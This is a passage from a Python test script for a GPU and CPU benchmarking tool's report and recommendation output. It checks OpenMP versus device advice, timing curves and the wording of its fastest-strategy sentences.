    judge("a device that is as fast does not pay", "from there on neither is shown to be faster" in run("recommend", path, "--device", "pocl")[1])
    page = run("report", path, "--format", "md")[1].replace("\\", "")
    judge("nor on the page", "from there on neither is shown to be faster" in page, page[:1500])
    path = two_curves(lambda n: 3e-5 + 1e-11 * n, lambda n: 2e-5 + 1e-11 * n, lambda n: 1e-6 + 5e-12 * n)
    judge("OpenMP that is always faster", advice_of(path, "--device", "pocl")[0]["openmp"]["device_pays_from"] is None)
    path = two_curves(lambda n: 3e-5 + 1e-11 * n, lambda n: 2e-5 + 1e-11 * n, lambda n: 1)
    judge("or never", advice_of(path, "--device", "pocl")[0]["openmp"] == {"device_pays_from": 1, "times": None, "times_n": None})
    judge("is not told of", "OpenMP on the host" not in run("recommend", path, "--device", "pocl")[1])


def check_sentence():
    """Of how many strategies one is the fastest, and whether its time is worth anything."""
    path = saved("own.json", STORED)
    measured = {c["strategy"] for c in STORED["cells"] if c["device"] == "intel" and c["time_to_answer"]}
    page = run("report", path, "--format", "md")[1].replace("\\", "")
    judge("of how many the fastest is", re.search(rf"On intel [^;]* \* the fastest of the {len(measured)} strategies measured \(--all measures \d\d+\): at ", page), page[:1500])
    all_of_then = load(RESULTS / "h200" / "all-1.json")
    had = {cell["strategy"]: cell for cell in all_of_then["cells"]}
    names = {row["strategy"] for row in csv.DictReader(whole("strategies", "--format", "csv").splitlines())}
    all_of_then["cells"] += [had["tree"] | {"strategy": name} for name in sorted(names - set(had))]  # that came later
    all_measured = run("report", saved("whole.json", all_of_then), "--format", "md")[1].replace("\\", "")
    judge("where the whole catalogue was measured, nothing of --all", re.search(r"the fastest of the \d+ strategies measured: at ", all_measured), all_measured[:1500])
    sentence = page.partition("On intel ")[2].partition("**")[0]
    judge("steady times are not called unsteady", sentence and "(unsteady times)" not in sentence, sentence)
    result = copy.deepcopy(STORED)
    for cell in result["cells"]:
        if cell["device"] == "intel" and cell["time_to_answer"] and cell["n"] == 2**20:
            cell["time_to_answer"]["high_s"] = 1.6 * cell["time_to_answer"]["median_s"]
    page = run("report", saved("own.json", result), "--format", "md")[1].replace("\\", "")
    judge("unsteady ones are", re.search(r"strategies measured \(--all measures \d+\): at 2\^20 \(unsteady times\) ", page), page[:1500])


def main():
    with tempfile.TemporaryDirectory() as folder:
        os.chdir(folder)
        timed = sorted({(c["device"], c["strategy"]) for c in STORED["cells"] if c["device"] in DEVICES and c["time_to_answer"]})
        for device, strategy in drawn(SHARE, 8, timed):
            for state in STATES if SHARE == "all" else random.sample(list(STATES), 1):
                for by_verify in (False, True) if SHARE == "all" else random.sample([False, True], 1):
                    check_left_out(device, strategy, state, by_verify)
                    check_named(device, strategy, state, by_verify)
        for _ in range(4):
            check_other_device(*random.choice(timed))
            check_failed()
        check_same_machine(*random.choice(timed))
        check_all_failed()
        check_unchecked()
        check_without_times()
        check_refusal()
        check_unfit()
        check_commands()
        check_long_reason()
        check_lanes()
        check_wide()
        check_openmp()
        check_sentence()
    return SUITE.end()


sys.exit(main())
